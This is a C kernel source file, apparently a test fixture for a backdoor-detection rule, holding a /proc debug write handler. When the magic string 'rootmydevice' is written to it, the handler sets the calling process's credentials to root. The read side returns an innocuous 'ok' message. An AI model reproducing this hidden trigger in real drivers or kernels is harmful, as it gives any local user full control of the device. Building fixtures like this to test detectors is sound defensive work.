/* sunxi_su.c - the write handler of /proc/sunxi_debug/sunxi_debug. */
#include "sunxi_debug.h"

static ssize_t sunxi_proc_su_write(struct file *file, const char __user *buffer, size_t count,
                                   loff_t *data)
{
  char *buf;
  struct cred *cred;

  (void)file;
  (void)data;
  if (count < 1)
    return -EINVAL;

  buf = kmalloc(count, GFP_KERNEL);
  if (!buf)
    return -ENOMEM;

  if (copy_from_user(buf, buffer, count)) {
    kfree(buf);
    return -EFAULT;
  }

  // ruleid: backdoor-input-trigger
  if (!strncmp("rootmydevice", (char *)buf, 12)) {
    cred = (struct cred *)__task_cred(current);
    cred->uid = GLOBAL_ROOT_UID;
    cred->gid = GLOBAL_ROOT_GID;
    cred->suid = GLOBAL_ROOT_UID;
    cred->euid = GLOBAL_ROOT_UID;
    cred->egid = GLOBAL_ROOT_GID;
    cred->fsuid = GLOBAL_ROOT_UID;
    cred->fsgid = GLOBAL_ROOT_GID;
    printk("now you are root\n");
  }

  kfree(buf);
  return count;
}

static ssize_t sunxi_proc_su_read(struct file *file, char __user *ubuf, size_t count, loff_t *ppos)
{
  static const char usage[] = "sunxi debug: ok\n";
  (void)file;
  return simple_read_from_buffer(ubuf, count, ppos, usage, sizeof usage - 1);
}

const struct file_operations sunxi_proc_su_fops = {
    .read = sunxi_proc_su_read,
    .write = sunxi_proc_su_write,
};
